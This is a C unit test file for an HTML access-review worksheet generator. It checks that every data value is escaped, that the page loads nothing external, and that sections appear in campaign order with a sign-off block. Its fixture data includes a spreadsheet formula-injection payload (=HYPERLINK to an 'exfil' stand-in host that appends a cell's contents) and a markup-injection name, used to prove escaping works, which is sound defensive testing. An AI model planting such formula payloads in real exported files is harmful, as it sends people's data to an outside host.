/*
 * test_worksheet_html.c: the HTML worksheet (reports/worksheet_html.c):
 * case 18's HTML section (every value escaped, no markup and no link from
 * data), one section per person in campaign order, highlights, the
 * sign-off block, a page that needs nothing from outside.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "rollcall/buf.h"
#include "rollcall/campaign.h"
#include "rollcall/report.h"
#include "data/worksheets/dataset.h"

struct fx {
	struct store	*st;
	struct config	*cfg;
	char		 dir[64];
	char		*page;
};

static int
setup(void **state)
{
	struct fx *fx = calloc(1, sizeof(*fx));

	assert_non_null(fx);
	fx->st = fx_open();
	dataset_load(fx->st, &fx->cfg);
	snprintf(fx->dir, sizeof(fx->dir), "/tmp/rollcall-html-XXXXXX");
	assert_non_null(mkdtemp(fx->dir));
	*state = fx;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *fx = *state;
	char *cmd = xasprintf("rm -rf '%s'", fx->dir);

	assert_int_equal(system(cmd), 0);
	free(cmd);
	free(fx->page);
	config_free(fx->cfg);
	store_close(fx->st);
	free(fx);
	return 0;
}

static char *
slurp(const char *path)
{
	struct buf b = BUF_INIT;
	char chunk[4096];
	size_t n;
	FILE *fp = fopen(path, "rb");

	assert_non_null(fp);
	while ((n = fread(chunk, 1, sizeof(chunk), fp)) > 0)
		buf_add(&b, chunk, n);
	fclose(fp);
	return buf_detach(&b);
}

static size_t
count(const char *hay, const char *needle)
{
	size_t n = 0;

	while ((hay = strstr(hay, needle)) != NULL) {
		n++;
		hay += strlen(needle);
	}
	return n;
}

/* E1800's page, written into fx->dir, in fx->page. */
static void
write_lea(struct fx *fx)
{
	struct campaign_reviewer rv = { "E1800", "Lea <Marchetti>", NULL,
	    NITEMS, 9 };
	struct errbuf err = { "" };
	struct campaign c;
	char *path = xasprintf("%s/lea.html", fx->dir);

	assert_int_equal(campaign_find(fx->st, "Q4-2026", &c, &err), 1);
	if (worksheet_html.write(fx->st, &c, &rv, path, &err) < 0)
		fail_msg("write: %s", err.msg);
	campaign_release(&c);
	fx->page = slurp(path);
	free(path);
}

static void
test_case18_escaped(void **state)
{
	struct fx *fx = *state;
	const char *p;

	write_lea(fx);
	/* expected.md, HTML section */
	assert_non_null(strstr(fx->page, ">=HYPERLINK(&quot;https://exfil"
	    ".example.invalid/?d=&quot;&amp;C2,&quot;Open&quot;)"));
	assert_non_null(strstr(fx->page, "<td>Ngozi &lt;b&gt;Eze&lt;/b&gt;"
	    "</td>"));
	assert_null(strstr(fx->page, "<b>Eze"));
	assert_non_null(strstr(fx->page, ">Ngozi &quot;Zee&quot; Eze "));
	assert_non_null(strstr(fx->page, "<td>@SUM(A1:A9)</td>"));
	assert_non_null(strstr(fx->page, "<td>=2+5</td>"));
	/* control characters visible, not swallowed as white space */
	assert_non_null(strstr(fx->page, "&middot; &#x2409;Ops &middot;"));
	assert_non_null(strstr(fx->page, "&middot; &#x240D;Finance &middot;"));
	assert_null(strchr(fx->page, '\r'));
	assert_null(strchr(fx->page, '\t'));
	/* the reviewer's name too, in the title and the header */
	assert_non_null(strstr(fx->page, "<title>Access review Q4-2026: Lea"
	    " &lt;Marchetti&gt;</title>"));
	/* a byte that is not UTF-8 */
	assert_non_null(strstr(fx->page, "<td>Zoë&#xFFFD;A</td>"));
	assert_non_null(strstr(fx->page, "R&amp;D &lt;Labs&gt;"));
	/* no link, script or anything loaded from elsewhere */
	assert_null(strstr(fx->page, "<a "));
	assert_null(strstr(fx->page, "href"));
	assert_null(strstr(fx->page, "<script"));
	assert_null(strstr(fx->page, "src="));
	assert_null(strstr(fx->page, "url("));
	assert_null(strstr(fx->page, "@import"));
	/* the only "<" in the page are our own tags: none before a space */
	for (p = fx->page; (p = strchr(p, '<')) != NULL; p++)
		assert_true(p[1] == '/' || p[1] == '!' ||
		    (p[1] >= 'a' && p[1] <= 'z'));
}

static void
test_page_shape(void **state)
{
	struct fx *fx = *state;
	const char *ghost, *mara, *yann, *lea, *zoe, *sign;
	char id[ITEM_ID_SIZE], *want;

	write_lea(fx);
	assert_memory_equal(fx->page, "<!DOCTYPE html>\n<html lang=\"en\">\n"
	    "<head>\n<meta charset=\"utf-8\">\n", 54);
	assert_non_null(strstr(fx->page, "default-src 'none'"));
	assert_non_null(strstr(fx->page, "@media print{"));
	assert_non_null(strstr(fx->page, "print-color-adjust:exact"));
	assert_non_null(strstr(fx->page, "break-inside:avoid-page"));
	assert_non_null(strstr(fx->page, "as of 2026-12-03 &middot; due"
	    " <strong>2026-12-31</strong> &middot; 12 lines, 9 recommended"
	    " for revocation</p>"));
	/* one section per person: the orphans, 8 leavers, Lea, Zoë */
	assert_int_equal(count(fx->page, "<section>"), 11);
	assert_int_equal(count(fx->page, "</section>"), 11);
	assert_int_equal(count(fx->page, "<tr class=\"finding\">"), 9);
	assert_int_equal(count(fx->page, "<tr class=\"privileged\">"), 1);
	assert_int_equal(count(fx->page, "<td class=\"decide\">"), NITEMS);
	assert_int_equal(count(fx->page, "<td class=\"comment\"></td>"),
	    NITEMS);
	assert_int_equal(count(fx->page, "<span class=\"badge\">left"
	    " 2026-11-16</span>"), 8);
	/* in campaign order */
	ghost = strstr(fx->page, "<h2>Accounts linked to no one in HR");
	mara = strstr(fx->page, "<h2>=HYPERLINK(");
	yann = strstr(fx->page, "<h2>Yann <span class=\"sub\">&middot; =1+1"
	    " &middot; E1808</span>");
	lea = strstr(fx->page, "<h2>Lea Marchetti <span class=\"sub\">&middot;"
	    " Head of Ops &middot; Operations &middot; E1800</span></h2>");
	zoe = strstr(fx->page, "<h2>Zoë Ångström <span class=\"sub\">&middot;"
	    " SRE &middot; R&amp;D &lt;Labs&gt; &middot; E1810</span></h2>");
	sign = strstr(fx->page, "<h2>Sign-off</h2>");
	assert_true(ghost && mara && yann && lea && zoe && sign);
	assert_true(ghost < mara && mara < yann && yann < lea && lea < zoe &&
	    zoe < sign);
	assert_non_null(strstr(sign, "<th>Reviewed by</th><td></td>"));
	assert_non_null(strstr(sign, "<th>Date</th><td></td>"));
	assert_non_null(strstr(sign, "<th>Signature</th><td></td>"));
	/* labels from the shared column names; the person's in headings */
	assert_non_null(strstr(fx->page, "<th>Days since termination</th>"));
	assert_non_null(strstr(fx->page, "<th>MFA</th>"));
	assert_null(strstr(fx->page, "<th>Person</th>"));
	/* item ids, and day counts right-aligned as numbers */
	campaign_item_id("Q4-2026", "okta", "zoe.angstrom@example.com",
	    "okta-admins", id);
	want = xasprintf("<td class=\"id\">%s</td>", id);
	assert_non_null(strstr(zoe, want));
	free(want);
	assert_int_equal(count(fx->page, "<td class=\"num\">17</td>"), 8);
	assert_non_null(strstr(fx->page, "</html>\n"));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_case18_escaped, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(test_page_shape, setup,
		    teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
